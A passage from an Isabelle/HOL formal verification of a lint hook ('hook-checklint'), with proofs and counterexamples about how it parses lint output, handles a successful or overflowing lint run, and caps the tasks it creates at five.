  have c: "regexMatch False genericRe '' src/c.ts:7:1: an error'' \<noteq> None"
    by code_simp
  then obtain g' where g': "regexMatch False genericRe '' src/c.ts:7:1: an error'' = Some g'"
    by blast
  from generic_fallback_rejects_leading_space [OF a g(1), of "[]"] g(2)
  have "parseStep [] ''src/c.ts:7:1: something odd''
     = [\<lparr>file = ''src/c.ts'', line = Finite 7, column = Finite 1, message = ''something odd'', rule = None,
         severity = Warning\<rparr>]"
    by simp
  moreover from generic_fallback_rejects_leading_space [OF b g', of "[]"]
  have "parseStep [] '' src/c.ts:7:1: an error''  = []"
    by simp
  ultimately show ?thesis
    using c by blast
qed

text \<open>
  C8 as stated fails: \<^const>\<open>tabLine\<close> begins with a tab, a white space character, and is
  accepted under the generic dialect.
\<close>

theorem generic_fallback_accepts_leading_tab_counterexample:
  "isWhiteSpace (hd tabLine)
   \<and> regexMatch True eslintRe tabLine = None
   \<and> regexMatch True biomeRe tabLine = None
   \<and> regexMatch False genericRe tabLine \<noteq> None
   \<and> parseLintOutput tabLine
       = [\<lparr>file = CHR 0x09 # ''src/a.ts'', line = Finite 1, column = Finite 2, message = ''bad'',
           rule = None, severity = Warning\<rparr>]"
  by code_simp

section \<open>Properties of the lint run\<close>

lemma world_exec_update [simp]:
  "getConfig (w\<lparr>exec := e\<rparr>) = getConfig w"
  "passesKeywords (w\<lparr>exec := e\<rparr>) config h = passesKeywords w config h"
  "getSessionState (w\<lparr>exec := e\<rparr>) sid = getSessionState w sid"
  "detectLintCommand (w\<lparr>exec := e\<rparr>) = detectLintCommand w"
  "getProjectTaskList (w\<lparr>exec := e\<rparr>) dir = getProjectTaskList w dir"
  "createTask (w\<lparr>exec := e\<rparr>) k d = createTask w k d"
proof -
  have "numberText (w\<lparr>exec := e\<rparr>) n = numberText w n" for n
    by (cases n) simp_all
  then show "createTask (w\<lparr>exec := e\<rparr>) k d = createTask w k d"
    by (simp add: createTask_def)
qed (simp_all add: getConfig_def passesKeywords_def getSessionName_def getSessionState_def
        detectLintCommand_def getProjectTaskList_def split: option.splits)

lemma reportErrors_exec_update [simp]:
  "reportErrors (w\<lparr>exec := e\<rparr>) config dir rel acc = reportErrors w config dir rel acc"
  by (simp add: reportErrors_def Let_def cong: option.case_cong if_cong)

lemma lintAndReport_success:
  assumes "orElse (lintCommand config) (detectLintCommand w) = Some command"
    and "exec w dir command = Exited 0 out err"
  shows "lintAndReport w config dir state acc = acc"
  using assms by (simp add: lintAndReport_def runLint_def)

lemma lintAndReport_same_result:
  assumes "orElse (lintCommand config) (detectLintCommand w) = Some command"
    and "runLint (w\<lparr>exec := e\<rparr>) dir command = runLint w dir command"
  shows "lintAndReport (w\<lparr>exec := e\<rparr>) config dir state acc
           = lintAndReport w config dir state acc"
  using assms by (simp add: lintAndReport_def Let_def split: prod.splits)

lemma run_tasks_from_lint:
  "tasks (run w) \<noteq> [] \<Longrightarrow>
     \<exists>h state. stdin w = Some h
       \<and> tasks (lintAndReport w (getConfig w) (cwd h) state nothingDone) \<noteq> []"
  by (auto simp: run_def Let_def split: option.splits if_splits)

lemma run_stderr_from_lint:
  "stdin w = Some h \<Longrightarrow>
     (\<And>state. lintAndReport w (getConfig w) (cwd h) state nothingDone = nothingDone) \<Longrightarrow>
     tasks (run w) = [] \<and> stderr (run w) = []"
  by (auto simp: run_def Let_def split: option.splits if_splits)

lemma run_same_lint:
  assumes "stdin w = Some h"
    and "\<And>state. lintAndReport (w\<lparr>exec := e\<rparr>) (getConfig w) (cwd h) state nothingDone
                  = lintAndReport w (getConfig w) (cwd h) state nothingDone"
  shows "run (w\<lparr>exec := e\<rparr>) = run w"
  using assms by (simp add: run_def Let_def cong: option.case_cong if_cong)

lemma run_reports:
  assumes "stdin w = Some h"
    and "tool_name h \<in> set EDIT_TOOLS"
    and "isValidRepoPattern (cwd h)"
    and "enabled (getConfig w) \<noteq> Some False"
    and "passesKeywords w (getConfig w) h"
    and "orElse (file_path (tool_input h)) (notebook_path (tool_input h)) = Some filePath"
    and "filePath \<noteq> []"
    and "state = countEdit (getSessionState w (session_id h)) filePath"
    and "effectiveThreshold (getConfig w) \<le> int (editCount state)"
    and "orElse (lintCommand (getConfig w)) (detectLintCommand w) = Some command"
    and "isValidLintCommand command"
    and "runLint w (cwd h) command = (False, output)"
    and "rel = filter (isRelevant (editedFiles state)) (parseLintOutput output)"
  shows "tasks (run w) = tasks (reportErrors w (getConfig w) (cwd h) rel nothingDone)"
    and "stderr (run w) = stderr (reportErrors w (getConfig w) (cwd h) rel nothingDone)"
proof -
  have cmd: "command \<noteq> []"
    using assms(11) by (auto simp: isValidLintCommand_def)
  have lint: "lintAndReport w (getConfig w) (cwd h) state nothingDone
                = reportErrors w (getConfig w) (cwd h) rel nothingDone"
    using assms(10-13) cmd by (simp add: lintAndReport_def Let_def)
  show "tasks (run w) = tasks (reportErrors w (getConfig w) (cwd h) rel nothingDone)"
    and "stderr (run w) = stderr (reportErrors w (getConfig w) (cwd h) rel nothingDone)"
    using assms(8,9) lint by (simp_all add: run_counted [OF assms(1-7)] Let_def)
qed

lemma map_zip_upt:
  "map (\<lambda>(k, e). f k e) (zip [0 ..< length xs] xs) = map (\<lambda>k. f k (xs ! k)) [0 ..< length xs]"
  by (rule nth_equalityI) simp_all

lemma reportErrors_tasks:
  assumes "createTasks config \<noteq> Some False"
    and "orElse (taskListId config) (getProjectTaskList w dir) = Some listId"
    and "listId \<noteq> []"
    and "rel \<noteq> []"
  shows "tasks (reportErrors w config dir rel nothingDone)
           = map (\<lambda>k. (listId, createTask w k (rel ! k))) [0 ..< min 5 (length rel)]"
    and "stderr (reportErrors w config dir rel nothingDone)
           = createdLine (min 5 (length rel)) listId
             # (if 5 < length rel then [moreLine (length rel - 5)] else [])"
proof -
  have len: "length (take 5 rel) = min 5 (length rel)"
    by simp
  have "map (\<lambda>(k, e). (listId, createTask w k e))
            (zip [0 ..< length (take 5 rel)] (take 5 rel))
          = map (\<lambda>k. (listId, createTask w k (take 5 rel ! k)))
              [0 ..< length (take 5 rel)]"
    by (rule map_zip_upt)
  also have "\<dots> = map (\<lambda>k. (listId, createTask w k (rel ! k))) [0 ..< min 5 (length rel)]"
    unfolding len by (rule map_cong) simp_all
  finally show "tasks (reportErrors w config dir rel nothingDone)
           = map (\<lambda>k. (listId, createTask w k (rel ! k))) [0 ..< min 5 (length rel)]"
    using assms by (auto simp add: reportErrors_def Let_def)
  show "stderr (reportErrors w config dir rel nothingDone)
           = createdLine (min 5 (length rel)) listId
             # (if 5 < length rel then [moreLine (length rel - 5)] else [])"
    using assms by (auto simp add: reportErrors_def Let_def min_def)
qed

subsection \<open>The lint command and its output\<close>

lemma parseLintOutput_append_line:
  "parseLintOutput (a @ CHR 0x0A # b) = parseLintOutput a @ parseLintOutput b"
  by (simp add: parseLintOutput_concat split_on_append_sep)

lemma no_colon_no_diagnostic:
  assumes "CHR '':'' \<notin> set ln"
  shows "parseStep [] ln = []"
proof (cases "parseStep [] ln")
  case Nil
  then show ?thesis .
next
  case (Cons d ds)
  moreover have "length (parseStep [] ln) \<le> 1"
    by (rule parseStep_at_most_one)
  ultimately have "parseStep [] ln = [d]"
    by simp
  then obtain f l c rest where "ln = f @ '':'' @ l @ '':'' @ c @ rest"
    using parseStep_fields by blast
  then have "CHR '':'' \<in> set ln"
    by simp
  with assms show ?thesis by simp
qed

lemma parse_padded:
  assumes "x \<noteq> CHR '':''" and "x \<noteq> CHR 0x0A"
  shows "parseLintOutput (a @ [CHR 0x0A] @ replicate n x) = parseLintOutput a"
proof -
  from assms have "CHR '':'' \<notin> set (replicate n x)" "CHR 0x0A \<notin> set (replicate n x)"
    by auto
  then have "parseLintOutput (replicate n x) = []"
    by (simp add: parseLintOutput_concat split_on_no_sep no_colon_no_diagnostic)
  then show ?thesis
    using parseLintOutput_append_line [of a "replicate n x"] by simp
qed

lemma length_padded: "n < length (a @ [c] @ replicate n x)"
  by simp

text \<open>
  C9, as the code has it.  When \<^verbatim>\<open>execSync\<close> returns, that is when the lint command ends
  with exit status 0 within the time and the buffer, the invocation creates no task and
  logs nothing, and its whole outcome is the same whatever the command printed: the output
  is not looked at.  An invocation that creates a task ran an allowed lint command for
  which \<^verbatim>\<open>execSync\<close> did not return.  An output that passes the buffer makes \<^verbatim>\<open>execSync\<close>
  throw whatever the exit status, and the invocation does then what it does for a command
  that fails with the same output.
\<close>

theorem successful_lint_creates_no_task:
  "(stdin w = Some h
      \<and> orElse (lintCommand (getConfig w)) (detectLintCommand w) = Some command
      \<and> exec w (cwd h) command = Exited 0 out err
    \<longrightarrow> tasks (run w) = [] \<and> stderr (run w) = []
        \<and> (\<forall>out' err'. run (w\<lparr>exec := (\<lambda>d c. Exited 0 out' err')\<rparr>) = run w))
   \<and> (tasks (run w) \<noteq> []
    \<longrightarrow> (\<exists>h command. stdin w = Some h
           \<and> orElse (lintCommand (getConfig w)) (detectLintCommand w) = Some command
           \<and> isValidLintCommand command
           \<and> (\<forall>out err. exec w (cwd h) command \<noteq> Exited 0 out err)))
   \<and> (stdin w = Some h
      \<and> orElse (lintCommand (getConfig w)) (detectLintCommand w) = Some command
      \<and> exec w (cwd h) command = Overflowed code out err
    \<longrightarrow> run w = run (w\<lparr>exec := (\<lambda>d c. Exited 1 out err)\<rparr>))"
proof (intro conjI impI)
  assume a: "stdin w = Some h
      \<and> orElse (lintCommand (getConfig w)) (detectLintCommand w) = Some command
      \<and> exec w (cwd h) command = Exited 0 out err"
  then have same: "lintAndReport w (getConfig w) (cwd h) state nothingDone = nothingDone"
    for state
    by (simp add: lintAndReport_success)
  with a show "tasks (run w) = []" and "stderr (run w) = []"
    using run_stderr_from_lint by blast+
  show "\<forall>out' err'. run (w\<lparr>exec := (\<lambda>d c. Exited 0 out' err')\<rparr>) = run w"
  proof (intro allI)
    fix out' err'
    let ?w = "w\<lparr>exec := (\<lambda>d c. Exited 0 out' err')\<rparr>"
    have "lintAndReport ?w (getConfig w) (cwd h) state nothingDone = nothingDone" for state
      using a by (simp add: lintAndReport_success [where out = out' and err = err'])
    then have eq: "lintAndReport ?w (getConfig w) (cwd h) state nothingDone
                     = lintAndReport w (getConfig w) (cwd h) state nothingDone" for state
      by (simp only: same)
    from a have "stdin w = Some h" by simp
    then show "run ?w = run w"
      using eq by (rule run_same_lint)
  qed
next
  assume "tasks (run w) \<noteq> []"
  then obtain h state where h: "stdin w = Some h"
      "tasks (lintAndReport w (getConfig w) (cwd h) state nothingDone) \<noteq> []"
    using run_tasks_from_lint by blast
  then obtain command where c: "orElse (lintCommand (getConfig w)) (detectLintCommand w) = Some command"
      "isValidLintCommand command" "\<not> fst (runLint w (cwd h) command)"
    by (auto simp: lintAndReport_def split: option.splits if_splits prod.splits)
  then have "\<forall>out err. exec w (cwd h) command \<noteq> Exited 0 out err"
    by (auto simp: runLint_def)
  with h c show "\<exists>h command. stdin w = Some h
           \<and> orElse (lintCommand (getConfig w)) (detectLintCommand w) = Some command
           \<and> isValidLintCommand command
           \<and> (\<forall>out err. exec w (cwd h) command \<noteq> Exited 0 out err)"
    by blast
next
  assume a: "stdin w = Some h
      \<and> orElse (lintCommand (getConfig w)) (detectLintCommand w) = Some command
      \<and> exec w (cwd h) command = Overflowed code out err"
  let ?w = "w\<lparr>exec := (\<lambda>d c. Exited 1 out err)\<rparr>"
  have "runLint ?w (cwd h) command = runLint w (cwd h) command"
    using a by (simp add: runLint_def)
  moreover from a have "orElse (lintCommand (getConfig w)) (detectLintCommand w) = Some command"
    by simp
  ultimately have eq: "lintAndReport ?w (getConfig w) (cwd h) state nothingDone
                  = lintAndReport w (getConfig w) (cwd h) state nothingDone" for state
    by (intro lintAndReport_same_result)
  from a have "stdin w = Some h" by simp
  then have "run ?w = run w"
    using eq by (rule run_same_lint)
  then show "run w = run ?w" by simp
qed

theorem successful_lint_creates_no_task_witness:
  "exec passingLintWorld (cwd sampleInput) ''bun lint'' = Exited 0 ''src/b.ts:1:2: error bad'' []
   \<and> tasks (run passingLintWorld) = [] \<and> stderr (run passingLintWorld) = []
   \<and> tasks (run sampleWorld) \<noteq> []"
proof -
  have 1: "stdin passingLintWorld = Some sampleInput"
    by (simp add: passingLintWorld_def sampleWorld_def)
  have 2: "orElse (lintCommand (getConfig passingLintWorld)) (detectLintCommand passingLintWorld)
             = Some ''bun lint''"
    by code_simp
  have 3: "exec passingLintWorld (cwd sampleInput) ''bun lint''
             = Exited 0 ''src/b.ts:1:2: error bad'' []"
    by (simp add: passingLintWorld_def)
  have 4: "tasks (run sampleWorld) \<noteq> []"
    by code_simp
  from successful_lint_creates_no_task [of passingLintWorld sampleInput "''bun lint''"
      "''src/b.ts:1:2: error bad''" "[]"] 1 2 3 4
  show ?thesis by blast
qed

text \<open>
  C9 as stated fails: in \<^const>\<open>overflowWorld\<close> the lint command ends with status 0 after
  printing more than 1 MiB, \<^verbatim>\<open>execSync\<close> throws, and the invocation parses the output and
  creates a task.
\<close>

theorem overflowing_lint_creates_task_counterexample:
  "stdin overflowWorld = Some sampleInput
   \<and> orElse (lintCommand (getConfig overflowWorld)) (detectLintCommand overflowWorld)
       = Some ''bun lint''
   \<and> exec overflowWorld (cwd sampleInput) ''bun lint'' = Overflowed 0 hugeOutput []
   \<and> 1024 * 1024 < length hugeOutput
   \<and> tasks (run overflowWorld)
       = [(''hook-checklint-bugfixes'',
           createTask overflowWorld 0
             \<lparr>file = ''src/b.ts'', line = Finite 1, column = Finite 2, message = ''bad'',
              rule = None, severity = Error\<rparr>)]
   \<and> stderr (run overflowWorld) = [createdLine 1 ''hook-checklint-bugfixes'']"
proof -
  let ?w = overflowWorld
  let ?d = "\<lparr>file = ''src/b.ts'', line = Finite 1, column = Finite 2, message = ''bad'',
              rule = None, severity = Error\<rparr>"
  let ?state = "countEdit (getSessionState ?w (session_id sampleInput)) ''src/b.ts''"
  have g: "stdin ?w = Some sampleInput"
      "tool_name sampleInput \<in> set EDIT_TOOLS"
      "isValidRepoPattern (cwd sampleInput)"
      "enabled (getConfig ?w) \<noteq> Some False"
      "passesKeywords ?w (getConfig ?w) sampleInput"
      "orElse (file_path (tool_input sampleInput)) (notebook_path (tool_input sampleInput))
         = Some ''src/b.ts''"
    using sample_guards by (simp_all add: overflowWorld_def)
  have ne: "''src/b.ts'' \<noteq> []" by simp
  have "effectiveThreshold (getConfig sampleWorld)
          \<le> int (editCount (countEdit (getSessionState sampleWorld (session_id sampleInput))
                               ''src/b.ts''))"
    by code_simp
  then have trig: "effectiveThreshold (getConfig ?w) \<le> int (editCount ?state)"
    by (simp add: overflowWorld_def)
  have "orElse (lintCommand (getConfig sampleWorld)) (detectLintCommand sampleWorld)
          = Some ''bun lint''"
    by code_simp
  then have cmd: "orElse (lintCommand (getConfig ?w)) (detectLintCommand ?w) = Some ''bun lint''"
    by (simp add: overflowWorld_def)
  have valid: "isValidLintCommand ''bun lint''"
    by code_simp
  have ex: "exec ?w (cwd sampleInput) ''bun lint'' = Overflowed 0 hugeOutput []"
    by (simp add: overflowWorld_def)
  then have lint: "runLint ?w (cwd sampleInput) ''bun lint'' = (False, hugeOutput)"
    by (simp add: runLint_def)
  have "parseLintOutput hugeOutput = parseLintOutput ''src/b.ts:1:2: error bad''"
    unfolding hugeOutput_def by (rule parse_padded) simp_all
  also have "\<dots> = [?d]"
    by code_simp
  finally have parsed: "parseLintOutput hugeOutput = [?d]" .
  have "filter (isRelevant (editedFiles (countEdit (getSessionState sampleWorld
            (session_id sampleInput)) ''src/b.ts''))) [?d] = [?d]"
    by code_simp
  then have rel: "[?d] = filter (isRelevant (editedFiles ?state)) (parseLintOutput hugeOutput)"
    by (simp add: parsed overflowWorld_def)
  have "createTasks (getConfig sampleWorld) \<noteq> Some False"
      "orElse (taskListId (getConfig sampleWorld)) (getProjectTaskList sampleWorld (cwd sampleInput))
         = Some ''hook-checklint-bugfixes''"
    by code_simp+
  then have t: "createTasks (getConfig ?w) \<noteq> Some False"
      "orElse (taskListId (getConfig ?w)) (getProjectTaskList ?w (cwd sampleInput))
         = Some ''hook-checklint-bugfixes''"
    by (simp_all add: overflowWorld_def)
  have listed: "''hook-checklint-bugfixes'' \<noteq> []" "[?d] \<noteq> []"
    by simp_all
  note r = run_reports [OF g ne refl trig cmd valid lint rel]
  note e = reportErrors_tasks [OF t listed]
  have "tasks (run ?w) = [(''hook-checklint-bugfixes'', createTask ?w 0 ?d)]"
    unfolding r(1) e(1) by simp
  moreover have "stderr (run ?w) = [createdLine 1 ''hook-checklint-bugfixes'']"
    unfolding r(2) e(2) by simp
  moreover have "1024 * 1024 < length hugeOutput"
    unfolding hugeOutput_def by (rule length_padded)
  ultimately show ?thesis
    using g(1) cmd ex by (intro conjI)
qed

subsection \<open>The tasks and the log\<close>

declare showDigits.simps [simp del]

lemma digit_of_index:
  assumes "k < 10"
  shows "digitValue (asciiDigits ! k) = k" and "asciiDigits ! k \<in> set asciiDigits"
proof -
  from assms have "k \<in> {0, 1, 2, 3, 4, 5, 6, 7, 8, 9}"
    by auto
  then show "digitValue (asciiDigits ! k) = k"
    by (auto simp: asciiDigits_def digitValue_def)
  from assms show "asciiDigits ! k \<in> set asciiDigits"
    by (intro nth_mem) (simp add: asciiDigits_def)
qed

lemma showDigits_decimal:
  "decimalValue (showDigits n) = n \<and> set (showDigits n) \<subseteq> set asciiDigits"
proof (induction n rule: showDigits.induct)
  case (1 n)
  show ?case
  proof (cases "n < 10")
    case True
    then show ?thesis
      by (simp add: showDigits.simps [of n] decimalValue_def digit_of_index)
  next
    case False
    with 1 have "decimalValue (showDigits (n div 10)) = n div 10"
        "set (showDigits (n div 10)) \<subseteq> set asciiDigits"
      by simp_all
    moreover have "n mod 10 < 10" by simp
    ultimately show ?thesis
      using False
      by (simp add: showDigits.simps [of n] decimalValue_def digit_of_index)
  qed
qed

text \<open>
  C6.  When the lint command fails and more than five of its diagnostics are relevant,
  with task creation enabled and a task list resolved, exactly five tasks are written, for
  the first five relevant diagnostics in their order, and the log holds two lines: that
  five tasks were created in the task list, and, in decimal digits, how many relevant
  diagnostics were left out.
\<close>

theorem task_emission_capped_at_five:
  assumes "stdin w = Some h"
    and "tool_name h \<in> set EDIT_TOOLS"
    and "isValidRepoPattern (cwd h)"
    and "enabled (getConfig w) \<noteq> Some False"
    and "passesKeywords w (getConfig w) h"
    and "orElse (file_path (tool_input h)) (notebook_path (tool_input h)) = Some filePath"
    and "filePath \<noteq> []"
    and "state = countEdit (getSessionState w (session_id h)) filePath"
    and "effectiveThreshold (getConfig w) \<le> int (editCount state)"
    and "orElse (lintCommand (getConfig w)) (detectLintCommand w) = Some command"
    and "isValidLintCommand command"
    and "runLint w (cwd h) command = (False, output)"
    and "rel = filter (isRelevant (editedFiles state)) (parseLintOutput output)"
    and "5 < length rel"
    and "createTasks (getConfig w) \<noteq> Some False"
    and "orElse (taskListId (getConfig w)) (getProjectTaskList w (cwd h)) = Some listId"
    and "listId \<noteq> []"
  shows "tasks (run w) = map (\<lambda>k. (listId, createTask w k (rel ! k))) [0 ..< 5]
         \<and> length (tasks (run w)) = 5
         \<and> map (\<lambda>t. (meta_file (metadata (snd t)), meta_line (metadata (snd t)),
                      meta_column (metadata (snd t)))) (tasks (run w))
             = map (\<lambda>e. (file e, line e, column e)) (take 5 rel)
         \<and> stderr (run w)
             = [''[hook-checklint] Created 5 task(s) for lint errors in ''
                  @ [CHR 0x22] @ listId @ [CHR 0x22],
                ''[hook-checklint] ('' @ showDigits (length rel - 5)
                  @ '' more errors not reported)'']
         \<and> decimalValue (showDigits (length rel - 5)) = length rel - 5
         \<and> set (showDigits (length rel - 5)) \<subseteq> set asciiDigits"
proof -
  from assms(14) have ne: "rel \<noteq> []" by auto
  note r = run_reports [OF assms(1-13)]
  note e = reportErrors_tasks [OF assms(15) assms(16) assms(17) ne]
  have five: "min 5 (length rel) = 5"
    using assms(14) by simp
  have t: "tasks (run w) = map (\<lambda>k. (listId, createTask w k (rel ! k))) [0 ..< 5]"
    unfolding r(1) e(1) five ..
  have "map (\<lambda>t. (meta_file (metadata (snd t)), meta_line (metadata (snd t)),
                      meta_column (metadata (snd t)))) (tasks (run w))
          = map (\<lambda>k. (file (rel ! k), line (rel ! k), column (rel ! k))) [0 ..< 5]"
    unfolding t by (simp add: createTask_def Let_def comp_def)
  also have "\<dots> = map (\<lambda>e. (file e, line e, column e)) (take 5 rel)"
    using assms(14) by (intro nth_equalityI) simp_all
  finally have m: "map (\<lambda>t. (meta_file (metadata (snd t)), meta_line (metadata (snd t)),
                      meta_column (metadata (snd t)))) (tasks (run w))
             = map (\<lambda>e. (file e, line e, column e)) (take 5 rel)" .
  have "showDigits 5 = ''5''"
    by (simp add: showDigits.simps asciiDigits_def)
  then have log: "stderr (run w)
             = [''[hook-checklint] Created 5 task(s) for lint errors in ''
                  @ [CHR 0x22] @ listId @ [CHR 0x22],
                ''[hook-checklint] ('' @ showDigits (length rel - 5)
                  @ '' more errors not reported)'']"
    unfolding r(2) e(2) five using assms(14) by (simp add: createdLine_def moreLine_def)
  from t have "length (tasks (run w)) = 5" by simp
  with t m log showDigits_decimal [of "length rel - 5"] show ?thesis
    by (intro conjI) simp_all
qed

theorem task_emission_capped_at_five_witness:
  "length (filter (isRelevant [''src/a.ts'', ''src/b.ts'']) (parseLintOutput sixErrors)) = 6
   \<and> length (tasks (run sixErrorsWorld)) = 5
   \<and> map (\<lambda>t. meta_line (metadata (snd t))) (tasks (run sixErrorsWorld))
       = [Finite 1, Finite 2, Finite 3, Finite 4, Finite 5]
   \<and> stderr (run sixErrorsWorld)
       = [''[hook-checklint] Created 5 task(s) for lint errors in ''
            @ [CHR 0x22] @ ''hook-checklint-bugfixes'' @ [CHR 0x22],
          ''[hook-checklint] (1 more errors not reported)'']"
proof -
  let ?w = sixErrorsWorld
  let ?state = "countEdit (getSessionState ?w (session_id sampleInput)) ''src/b.ts''"
  let ?rel = "filter (isRelevant (editedFiles ?state)) (parseLintOutput sixErrors)"
  have g: "stdin ?w = Some sampleInput"
      "tool_name sampleInput \<in> set EDIT_TOOLS"
      "isValidRepoPattern (cwd sampleInput)"
      "enabled (getConfig ?w) \<noteq> Some False"
      "passesKeywords ?w (getConfig ?w) sampleInput"
      "orElse (file_path (tool_input sampleInput)) (notebook_path (tool_input sampleInput))
         = Some ''src/b.ts''"
    by code_simp+
  have ne: "''src/b.ts'' \<noteq> []" by simp
  have trig: "effectiveThreshold (getConfig ?w) \<le> int (editCount ?state)"
    by code_simp
  have c: "orElse (lintCommand (getConfig ?w)) (detectLintCommand ?w) = Some ''bun lint''"
      "isValidLintCommand ''bun lint''"
      "runLint ?w (cwd sampleInput) ''bun lint'' = (False, sixErrors)"
    by code_simp+
  have files: "editedFiles ?state = [''src/a.ts'', ''src/b.ts'']"
    by code_simp
  have six: "length ?rel = 6"
    by code_simp
  then have more: "5 < length ?rel" by simp
  have lines: "map line (take 5 ?rel) = [Finite 1, Finite 2, Finite 3, Finite 4, Finite 5]"
    by code_simp
  have t: "createTasks (getConfig ?w) \<noteq> Some False"
      "orElse (taskListId (getConfig ?w)) (getProjectTaskList ?w (cwd sampleInput))
         = Some ''hook-checklint-bugfixes''"
      "''hook-checklint-bugfixes'' \<noteq> []"
    by code_simp+
  note r = task_emission_capped_at_five [OF g ne refl trig c refl more t]
  have len: "length (tasks (run ?w)) = 5"
    using r by (elim conjE)
  have one: "showDigits (6 - 5) = ''1''"
    by (simp add: showDigits.simps asciiDigits_def)
  have "stderr (run ?w)
             = [''[hook-checklint] Created 5 task(s) for lint errors in ''
                  @ [CHR 0x22] @ ''hook-checklint-bugfixes'' @ [CHR 0x22],
                ''[hook-checklint] ('' @ showDigits (length ?rel - 5)
                  @ '' more errors not reported)'']"
    using r by (elim conjE)
  then have log: "stderr (run ?w)
       = [''[hook-checklint] Created 5 task(s) for lint errors in ''
            @ [CHR 0x22] @ ''hook-checklint-bugfixes'' @ [CHR 0x22],
          ''[hook-checklint] (1 more errors not reported)'']"
    unfolding six one by simp
  have "map (\<lambda>t. (meta_file (metadata (snd t)), meta_line (metadata (snd t)),
                      meta_column (metadata (snd t)))) (tasks (run ?w))
             = map (\<lambda>e. (file e, line e, column e)) (take 5 ?rel)"
    using r by (elim conjE)
  then have "map (\<lambda>x. fst (snd x)) (map (\<lambda>t. (meta_file (metadata (snd t)),
                      meta_line (metadata (snd t)),
                      meta_column (metadata (snd t)))) (tasks (run ?w)))
             = map (\<lambda>x. fst (snd x)) (map (\<lambda>e. (file e, line e, column e)) (take 5 ?rel))"
    by (rule arg_cong)
  then have "map (\<lambda>t. meta_line (metadata (snd t))) (tasks (run ?w)) = map line (take 5 ?rel)"
    by (simp only: map_map comp_def fst_conv snd_conv)
  then have ls: "map (\<lambda>t. meta_line (metadata (snd t))) (tasks (run ?w))
                   = [Finite 1, Finite 2, Finite 3, Finite 4, Finite 5]"
    by (simp only: lines)
  have "length (filter (isRelevant [''src/a.ts'', ''src/b.ts'']) (parseLintOutput sixErrors)) = 6"
    using six by (simp only: files)
  with len ls log show ?thesis
    by (intro conjI)
qed

end
